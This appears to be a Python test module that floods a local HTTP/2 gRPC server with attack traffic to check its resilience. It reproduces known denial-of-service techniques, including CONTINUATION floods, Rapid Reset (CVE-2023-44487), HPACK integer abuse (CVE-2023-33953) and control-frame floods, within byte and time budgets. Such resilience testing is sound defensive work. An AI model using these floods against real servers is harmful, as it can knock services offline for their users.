"""Floods: frames of HTTP/2 as fast as possible."""

import contextlib
import itertools
import threading
import time

from harness import BUDGETS, CLASSIFY, CLOSED_WITHIN_S, ENCODE, MIB, QUESTION, Outcome, row, together, token_vectors
from http2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME, PING
from http2 import PRIORITY, PUSH_PROMISE, SETTINGS, Closed, Connection, frame, header_block, heads, integer, literal
from http2 import message, reset, settings, window_update


class Flood:
    """Connections that send the same bytes until the server closes them, and are opened again until time or bytes run out.
    A connection that is open when time runs out continues until it is as old as an attacker's connection may get.
    `begin(connection)` and then `next_part(connection)` until it returns None give what is sent."""

    def __init__(self, target, connections, max_bytes, begin, next_part, acknowledge=True, read=True):
        self._target, self._begin, self._next_part = target, begin, next_part
        self._acknowledge, self._read = acknowledge, read
        self._max_bytes = max_bytes // connections
        self._lock = threading.Lock()
        self.sent = self.opened = self.closed = 0
        self.longest_s = 0.0
        self.goaways = set()
        together(self._attack, range(connections))

    def _attack(self, _):
        sent = 0
        while sent < self._max_bytes and self._target.time_left() > 0:
            start = time.monotonic()
            try:
                connection = Connection(self._target.port, acknowledge=self._acknowledge)
            except Closed:
                time.sleep(0.02)
                continue
            closed = False
            try:
                self._send(connection, self._max_bytes - sent, start + CLOSED_WITHIN_S + 0.1)
            except Closed:
                closed = True
            connection.close()
            sent += connection.sent
            with self._lock:
                self.opened += 1
                self.sent += connection.sent
                self.closed += closed
                self.longest_s = max(self.longest_s, time.monotonic() - start)
                if connection.goaway is not None:
                    self.goaways.add("%d %s" % connection.goaway)

    def _send(self, connection, most, end):
        """Sends until `end`, or until all is sent: then the attack is over, and so is the connection."""
        if self._read:
            connection.pump(0.05)
        self._begin(connection)
        while connection.sent < most and time.monotonic() < end:
            part = self._next_part(connection)
            if part is None:
                break
            connection.send(part, end)
            if self._read:
                connection.pump()
        # What has been sent may still be on its way to where it counts.
        connection.pump(min(0.3, max(0, end - time.monotonic())))

    def outcome(self, text=""):
        closed_after = self.longest_s if self.closed > 0 else None
        what = "%s%.1f MiB sent on %d connections, " % (text, self.sent / MIB, self.opened)
        if closed_after is not None:
            what += "%d closed, none older than %.1f s" % (self.closed, closed_after)
        else:
            what += "none closed"
        if self.goaways:
            what += " (%s)" % ", ".join(sorted(self.goaways))
        return Outcome(what, closed_after)


def open_call(connection):
    connection.stream = connection.start(CLASSIFY)


def open_headers(connection, block=header_block(CLASSIFY)):
    connection.stream = connection.next_stream()
    connection.send(frame(HEADERS, 0, connection.stream, block))


@row(flags=BUDGETS)
def continuation_flood(target):
    """Endless small header fields in CONTINUATION frames, each of which is below the limit of headers."""
    block = b"".join(literal("x-%d" % i, "v" * 40) for i in range(100))
    begin = lambda connection: open_headers(connection, header_block("/x/y"))  # noqa: E731
    part = lambda connection: frame(CONTINUATION, 0, connection.stream, block) * 32  # noqa: E731
    return Flood(target, 2, 192 * MIB, begin, part).outcome()


@row(flags=BUDGETS)
def hpack_integer(target):
    """CVE-2023-33953: header fields that never become whole, in CONTINUATION frames; some parsers begin anew at every frame."""
    forms = itertools.cycle((
        b"\0\x7f" + b"\x80" * 64,  # the length of a name, zeros at its end
        b"\0\x01x" + integer(1 << 30, 7),  # the length of a value that will not come
    ))  # fmt: skip
    begin = lambda connection: open_headers(connection, next(forms))  # noqa: E731
    part = lambda connection: frame(CONTINUATION, 0, connection.stream, b"\x80" * MAX_FRAME) * 16  # noqa: E731
    return Flood(target, 4, 24 * MIB, begin, part).outcome()


@row(flags=BUDGETS, budget_mib=8, seconds=3)  # the calls that are open count
def rapid_reset(target):
    """CVE-2023-44487: streams that are opened and reset at once, with plain headers, and with headers that are in the
    server's table, so that a stream costs the attacker 27 bytes."""
    indexed = bytes(0x80 | 62 + i for i in range(6))  # the table holds what begin() put there: 62 is the last field, and so on
    blocks = itertools.cycle((header_block(CLASSIFY), indexed))
    connections = []

    def begin(connection):
        connections.append(connection)
        connection.streams, connection.block = 0, next(blocks)
        connection.send(heads(connection, [header_block(CLASSIFY, indexed=True)]))

    def part(connection):
        if connection.streams >= 70000:
            return None
        connection.streams += 500
        return heads(connection, [connection.block] * 500, reset)

    flood = Flood(target, 2, 24 * MIB, begin, part)
    return flood.outcome("%d resets, " % sum(connection.streams for connection in connections))


@row(flags=BUDGETS)
def unacknowledged_settings(target):
    """A client that never acknowledges the server's SETTINGS: the limits on streams and headers in them hold
    only once they are acknowledged. Until then every gRPC accepts 16 MiB of headers; the cost of that must be bounded."""
    headers = "CLOSED"
    with contextlib.suppress(Closed), Connection(target.port, acknowledge=False) as connection:
        block = header_block(CLASSIFY, [("x-%d" % i, "v" * 4000) for i in range(100)])
        stream = connection.next_stream()
        first, *parts = (block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME))
        connection.send(frame(HEADERS, 0, stream, first))
        for part in parts:
            connection.send(frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part))
        connection.send(frame(DATA, END_STREAM, stream, message(QUESTION)))
        headers = connection.finish(stream, timeout=1).code

    most_streams = 10000  # on each of two connections
    connections = []

    def begin(connection):
        connection.streams = 0
        connections.append(connection)

    def some(connection):
        if connection.streams >= most_streams:
            return None
        connection.streams += 500
        return heads(connection, [header_block(CLASSIFY)] * 500)

    flood = Flood(target, 2, 8 * MIB, begin, some, acknowledge=False)
    opened = sum(connection.streams for connection in connections)
    return flood.outcome("a call with 400 kB of headers got %s; %d streams, " % (headers, opened))


@row(flags=BUDGETS, budget_mib=64, seconds=3)
def crumbs(target):
    """N15: messages that arrive a byte a frame."""

    def begin(connection):
        connection.left = 64000
        connection.stream = connection.start(CLASSIFY, body=message(b"", length=4000000))

    def part(connection):
        connection.left -= 1000
        return frame(DATA, 0, connection.stream, b"x") * 1000 if connection.left > 0 else None

    return Flood(target, 8, 40 * MIB, begin, part).outcome()


def one_after_the_other(target, forms, most_bytes, unread=()):
    """A flood of half a second of each form; the answers to the unread ones are not read."""
    texts = []
    for name, (begin, part) in forms.items():
        flood = Flood(target.part(0.5), 1, most_bytes, begin, part, read=name not in unread)
        texts.append("%s: %.1f MiB, %d closed" % (name, flood.sent / MIB, flood.closed))
    return Outcome(", ".join(texts))


CONTROL_FRAMES = {
    "SETTINGS": (open_call, lambda c: settings((INITIAL_WINDOW_SIZE, 65535)) * 500),
    "PING": (open_call, lambda c: frame(PING, 0, 0, b"12345678") * 500),
    "WINDOW_UPDATE": (open_call, lambda c: window_update(c.stream, 1) * 500),
    "WINDOW_UPDATE by 0": (open_call, lambda c: window_update(c.stream, 0) * 500),
    "PRIORITY": (open_call, lambda c: frame(PRIORITY, 0, c.stream, b"\0\0\0\0\x10") * 500),
    "GOAWAY": (open_call, lambda c: frame(GOAWAY, 0, 0, b"\0" * 8) * 500),
    "empty DATA": (open_call, lambda c: frame(DATA, 0, c.stream) * 500),
    "empty CONTINUATION": (open_headers, lambda c: frame(CONTINUATION, 0, c.stream) * 500),
}


@row(seconds=4.5)
def control_floods(target):
    """Frames that are legal and mean nothing, as fast as possible and without reading the answers."""
    return one_after_the_other(target, CONTROL_FRAMES, 8 * MIB, unread=CONTROL_FRAMES)


def unread_encode(connection):
    connection.pump(0.05)
    connection.stream = connection.start(ENCODE)
    connection.send_body(connection.stream, message(token_vectors(2, 1024)))
    connection.pump(0.2)


def calls(block):
    """Headers of calls, again and again, on connections that begin with nothing else."""
    return lambda c: None, lambda c: heads(c, [block] * 4, flags=END_HEADERS | END_STREAM)


PAGE = b"".join(literal(*one) for one in (
    (":method", "GET"), (":scheme", "http"), (":path", "/openapi.json"), (":authority", "a")))  # fmt: skip
FRAMES = {
    "padded DATA": (open_call, lambda c: frame(DATA, 8, c.stream, b"\xff" + bytes(255)) * 100),
    "unknown": (open_call, lambda c: frame(200, 0, 0, b"x") * 500),
    "PRIORITY_UPDATE": (open_call, lambda c: frame(16, 0, 0, c.stream.to_bytes(4, "big") + b"u=1") * 500),
    "long SETTINGS": (open_call, lambda c: settings(*[(1000 + number, 1) for number in range(2700)])),
    "ACKs": (open_call, lambda c: (frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, bytes(8))) * 200),
    "PUSH_PROMISE": (open_call, lambda c: frame(PUSH_PROMISE, END_HEADERS, c.stream, b"\0\0\0\2\x82") * 9),
    "GOAWAY": (open_call, lambda c: frame(GOAWAY, 0, 0, bytes(108)) * 99),
    "resets of no stream": (open_call, lambda c: reset(9999) * 99),
    "sizes of tables": calls(b"\x20" * 8000),
    "cookies": calls(header_block(CLASSIFY) + literal("cookie", "a=b") * 500),
    "empty names": calls(header_block(CLASSIFY) + b"\x40\0\0" * 4000),
    "a field 12,000 times": calls(
        header_block(CLASSIFY) + literal("x", "v" * 3900, indexed=True) + b"\xbe" * 12000
    ),
    "windows of a byte": (unread_encode, lambda c: window_update(c.stream, 1) * 500),
    "unread pages": (lambda c: c.send(settings((INITIAL_WINDOW_SIZE, 0))), calls(PAGE)[1]),
}


@row(flags=BUDGETS, budget_mib=64, seconds=9)
def odd_frames(target):
    """Frames and headers that are legal or nearly so, and dear to handle or to keep."""
    return one_after_the_other(target, FRAMES, 4 * MIB, unread=["unread pages"])
